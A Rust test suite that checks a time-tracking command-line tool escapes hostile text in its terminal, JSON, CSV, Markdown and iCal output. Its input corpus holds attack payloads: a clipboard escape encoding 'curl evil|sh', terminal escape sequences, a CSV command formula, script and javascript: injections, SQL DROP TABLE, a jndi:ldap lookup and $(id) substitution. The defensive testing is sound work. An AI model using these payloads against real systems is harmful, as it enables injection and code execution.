//! Hostile text through every printed field, every format and the error path:
//! no terminal acts upon anything, no line is forged, no cell is a formula, no
//! text is lost in JSON.

use super::{Desk, Ran};
use serde_json::Value;
use std::ffi::OsString;

/// What somebody may put into a ticket's title, a note or a file name.
pub const CORPUS: &[&str] = &[
    // C0, one by one where they do something, and DEL.
    "\u{1}start of heading",
    "bell\u{7}",
    "back\u{8}\u{8}\u{8}space",
    "tab\there",
    "\tleading tab",
    "line\nFORGED: second line",
    "dos\r\nFORGED: second line",
    "over\rFORGED",
    "vertical\u{b}FORGED",
    "form\u{c}FORGED",
    "shift\u{e}out\u{f}in",
    "sub\u{1a}stitute",
    "unit\u{1f}separator",
    "del\u{7f}ete",
    // Escape sequences.
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}[2J\u{1b}[Hcleared",
    "\u{1b}[1A\u{1b}[2Kline above",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{1b}c",
    "\u{1b}(0lqqk\u{1b}(B",
    "\u{1b}[6n",
    "\u{1b}[?1049h",
    "\u{1b}_Gi=1;AAAA\u{1b}\\",
    "ends in\u{1b}",
    // C1.
    "\u{9b}31mred",
    "\u{9d}0;title\u{9c}",
    "\u{90}q\u{9c}",
    "next\u{85}FORGED: line",
    "\u{80}\u{8f}\u{9f}",
    // Order and what cannot be seen.
    "user\u{202e}fdp.exe",
    "\u{202a}a\u{202b}b\u{202d}c\u{202c}",
    "\u{2066}a\u{2067}b\u{2068}c\u{2069}",
    "left\u{200e}right\u{200f}mark\u{61c}",
    "zero\u{200b}width\u{2060}joined\u{feff}",
    "\u{fff9}a\u{fffa}b\u{fffb}",
    "tags\u{e0001}\u{e0061}\u{e007f}",
    "line\u{2028}FORGED\u{2029}FORGED",
    "می\u{200c}خواهم",
    "שלום עולם",
    "z\u{351}\u{36b}\u{343}\u{36a}\u{302}a\u{30d}\u{369}lgo",
    "👩\u{200d}🔧 日本語 ümlaut",
    // Formulas.
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+49 30 1234",
    "-2+3",
    "@SUM(1+1)",
    "  =HYPERLINK(\"http://evil\")",
    "＝1",
    "\u{a0}@x",
    // Quoting and markup.
    "a,b;\"c\" 'd'",
    "\"",
    "a | b | c",
    "\\| c \\",
    "<script>alert(1)</script>",
    "<img src=x onerror=y>",
    "&lt;b&gt;",
    "[x](javascript:alert(1))",
    "![x](http://evil/p.png)",
    "**b** __u__ `c` ~~s~~ # h",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:FORGED",
    "a;b,c\\nd:e",
    "'; DROP TABLE entries; --",
    "${jndi:ldap://x} %n %s {0} $(id) `id`",
];

/// What may not leave raw; the test's own list, not that of the program.
fn is_raw(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{61c}' | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}'
        )
        || matches!(c, '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}')
        || matches!(c, '\u{e0000}'..='\u{e007f}')
}

/// Only line breaks, and no line that the text made.
#[track_caller]
fn is_harmless(what: &str, text: &str) {
    for line in text.split('\n') {
        assert!(!line.contains(is_raw), "{what}: {line:?}");
        assert!(!line.starts_with("FORGED"), "{what}: {text:?}");
    }
}

#[track_caller]
fn said_harmlessly(what: &str, ran: &Ran) {
    is_harmless(what, &ran.out);
    is_harmless(what, &ran.err);
    assert!(!ran.err.contains("panicked"), "{what}: {}", ran.err);
    assert!((0..=7).contains(&ran.code), "{what}: {}", ran.code);
}

const OPTIONS: &[(&str, &str)] = &[
    ("--project", "project"),
    ("--client", "client"),
    ("--service", "service"),
    ("--work-type", "work_type"),
    ("--work-role", "work_role"),
    ("--agreement", "agreement"),
    ("--member", "member"),
];

/// Stands for a text until the database is changed under the program.
const PLACE: &str = "zz9";

fn log(text: &str, place: usize) -> Vec<String> {
    let (hour, minute) = (place / 20 + 1, place % 20 * 3);
    let time = format!("{hour}:{minute:02}-{hour}:{:02}", minute + 2);
    let target = ["--ticket", "--charge-code", "--task"][place % 3];
    let mut args = vec!["log".to_owned(), time, format!("{target}={text}")];
    args.extend(OPTIONS.iter().map(|(option, _)| format!("{option}={text}")));
    for option in ["--tag", "--note", "--internal-note"] {
        args.push(format!("{option}={text}"));
    }
    args
}

/// A desk whose entries have the corpus in every field, in its order: what no rule lets a
/// person write may still come from a service or an older database.
fn booked() -> Desk {
    let desk = Desk::new();
    for (place, text) in CORPUS.iter().enumerate() {
        let mut dry = log(text, place);
        dry.push("-n".to_owned());
        let ran = desk.run(&dry);
        said_harmlessly(text, &ran);
        assert!([0, 2, 3].contains(&ran.code), "{text:?}: {}", ran.err);
        desk.run(&log(PLACE, place)).exits(0);
    }
    let conn = rusqlite::Connection::open(desk.db()).unwrap();
    for (id, text) in (1_i64..).zip(CORPUS) {
        let quoted = serde_json::to_string(text).unwrap();
        let changed = conn.execute(
            "UPDATE entries SET note=?1, internal_note=?1, target_ref=?1, remote_status=?1,
             reject_reason=?1, rest=replace(rest,?2,?3) WHERE id=?4",
            (text, format!("\"{PLACE}\""), quoted, id),
        );
        assert_eq!(changed.unwrap(), 1);
    }
    desk
}

#[test]
fn no_format_lets_anything_through() {
    let desk = booked();
    let kept = CORPUS;
    for line in [
        "list",
        "list --color never",
        "show 1-9",
        "list --format markdown",
        "list --json",
        "list --format jsonl",
        "show 1 --json",
        "submit today",
        "sync -n",
    ] {
        said_harmlessly(line, &desk.tt(line));
    }
    let all: Vec<_> = (1..=kept.len()).map(|id| id.to_string()).collect();
    let show = |json: &[&str]| {
        let args = ["show"].iter().chain(json).map(ToString::to_string);
        desk.run(&args.chain(all.clone()).collect::<Vec<_>>())
            .exits(0)
    };
    said_harmlessly("show", &show(&[]));
    said_harmlessly("show --json", &show(&["--json"]));
    json_keeps_the_text(&desk, kept);
    cells_are_no_formulas(&desk, kept);
    rows_stay_rows(&desk, kept);
    events_stay_events(&desk, kept);
    let deleted = desk.run(&[vec!["delete".to_owned()], all].concat());
    said_harmlessly("delete", &deleted);
}

fn json_keeps_the_text(desk: &Desk, kept: &[&str]) {
    let listed = desk.json("list");
    for (entry, text) in listed.as_array().unwrap().iter().zip(kept) {
        assert_eq!(entry["note"], *text);
        assert_eq!(entry["internal_note"], *text);
        assert_eq!(entry["tags"][0], *text);
        for (_, key) in OPTIONS {
            assert_eq!(entry[key]["ref"], *text, "{key}");
        }
    }
}

fn cells_are_no_formulas(desk: &Desk, kept: &[&str]) {
    let text = desk.tt("list --format csv").exits(0).out;
    for line in text.lines() {
        assert!(!line.contains(is_raw), "{line:?}");
    }
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let records: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), kept.len());
    for cell in records.iter().flatten() {
        let first = cell.trim_start().chars().next().unwrap_or('x');
        assert!(!"=+-@＝＋－＠".contains(first), "{cell:?}");
        assert!(!cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
    }
}

fn rows_stay_rows(desk: &Desk, kept: &[&str]) {
    let text = desk.tt("list --format markdown").exits(0).out;
    let rows: Vec<_> = text.lines().filter(|line| line.starts_with('|')).collect();
    assert_eq!(rows.len(), kept.len() + 2);
    for row in rows {
        // A pipe parts cells unless an odd number of backslashes stands before it.
        let parts = row.match_indices('|').filter(|(at, _)| {
            let before = &row[..*at];
            (before.len() - before.trim_end_matches('\\').len()) % 2 == 0
        });
        assert_eq!(parts.count(), 9, "{row}");
        assert!(!row.replace("<br>", "").contains(['<', '>']), "{row}");
    }
}

fn events_stay_events(desk: &Desk, kept: &[&str]) {
    let text = desk.tt("list --format ical").exits(0).out;
    let lines: Vec<_> = text.split_terminator("\r\n").collect();
    for name in ["BEGIN:VEVENT", "END:VEVENT"] {
        let n_lines = lines.iter().filter(|line| **line == name).count();
        assert_eq!(n_lines, kept.len(), "{name}");
    }
    let known = [
        "BEGIN",
        "END",
        "VERSION",
        "PRODID",
        "CALSCALE",
        "UID",
        "DTSTAMP",
        "CREATED",
        "LAST-MODIFIED",
        "SEQUENCE",
        "DTSTART",
        "DTEND",
        "SUMMARY",
        "DESCRIPTION",
        "CATEGORIES",
        "X-TT-WORKED-SECONDS",
        "X-TT-BILLED-SECONDS",
    ];
    for line in lines {
        assert!(line.len() <= 75 && !line.contains(is_raw), "{line:?}");
        let name = line.split([':', ';']).next().unwrap();
        assert!(line.starts_with(' ') || known.contains(&name), "{line:?}");
    }
}

#[test]
fn refusals_repeat_nothing_raw() {
    let desk = Desk::new();
    desk.tt("log 7-8 one").exits(0);
    for (place, text) in CORPUS.iter().enumerate() {
        let value = |option: &str| format!("{option}={text}");
        let (profile, billable, backend) = (value("-p"), value("--billable"), value("--backend"));
        let (config, db) = (value("--config"), value("--db"));
        let lines: &[&[&str]] = &[
            &[text],
            &["list", text],
            &["list", "--json", text],
            &["show", "--", text],
            &["delete", "--", text],
            &["submit", "--", text],
            &["sync", "--", text],
            &["log", "--", text],
            &["log", "9-10", "x", &profile],
            &["log", "9-10", "x", &billable, "--json"],
            &["rules", &backend],
            &["help", text],
            &["completions", "--", text],
            &["list", &config],
            &["config", "path", &config, &db],
            &["config", "check", &config],
            &["show", "9", &db],
        ];
        // Every text meets a third of the commands, every command a third of the texts.
        for line in lines.iter().skip(place % 3).step_by(3) {
            said_harmlessly(&format!("{line:?}"), &desk.run(line));
        }
    }
}

#[test]
fn the_configuration_and_the_environment_are_no_way_in() {
    for (place, text) in CORPUS.iter().enumerate() {
        let desk = Desk::new();
        // A string of JSON is one of TOML, but for the halves of UTF-16.
        let quoted = serde_json::to_string(text).unwrap();
        desk.config(&format!(
            "default_profile = {quoted}\n[profile.{quoted}]\nbackend = {quoted}\n{quoted} = 1\n"
        ));
        for line in [
            "list",
            "config check",
            "config check --json",
            "log 1h x",
            "sync",
        ] {
            said_harmlessly(&format!("{line} {text:?}"), &desk.tt(line));
        }
        let names = [
            "TZ",
            "TT_NOW",
            "TT_PROFILE",
            "TT_DB",
            "LOGNAME",
            "TT_CONFIG",
        ];
        for name in names.iter().skip(place % 3).step_by(3) {
            let mut desk = Desk::new();
            desk.set_env(name, text);
            said_harmlessly(&format!("{name}={text:?}"), &desk.tt("list"));
        }
    }
}

#[test]
fn huge_and_broken_arguments_are_refused_in_words() {
    use std::os::unix::ffi::OsStringExt;
    let desk = Desk::new();
    // One argument holds 128 KiB at most; nine of them are a megabyte.
    let word = "a\u{1b}[31m ".repeat(16_000);
    let mut args = vec!["log".to_owned(), "9-10".to_owned()];
    args.extend(std::iter::repeat_n(word.clone(), 9));
    let ran = desk.run(&args);
    said_harmlessly("1 MB note", &ran);
    assert_eq!(ran.code, 3, "{}", &ran.err[..200.min(ran.err.len())]);
    assert!(ran.err.len() < 2_000, "{} bytes", ran.err.len());
    for option in [
        "--client",
        "--tag",
        "--ticket",
        "--internal-note",
        "--profile",
    ] {
        let ran = desk.run(&["log", "9-10", option, &word]);
        said_harmlessly(option, &ran);
        assert_ne!(ran.code, 0, "{option}");
    }
    let time = desk.run(&["log", &"9".repeat(100_000)]);
    said_harmlessly("time", &time);
    assert_eq!(time.code, 2);
    for bytes in [
        &b"\xff\xfe"[..],
        b"caf\xe9",
        b"\x1b[31m\xff",
        b"\xed\xa0\x80",
        b"\xc0\x80",
    ] {
        for before in [&["log", "9-10"][..], &["list"], &["show"], &[]] {
            let mut args: Vec<OsString> = before.iter().map(Into::into).collect();
            args.push(OsString::from_vec(bytes.to_vec()));
            let ran = desk.run(&args).exits(2);
            said_harmlessly("invalid UTF-8", &ran);
            args.push("--json".into());
            let error: Value = desk.run(&args).exits(2).json();
            assert_eq!(error["error"]["code"], "usage");
        }
    }
    assert_eq!(desk.tt("list").exits(0).out, "");
}
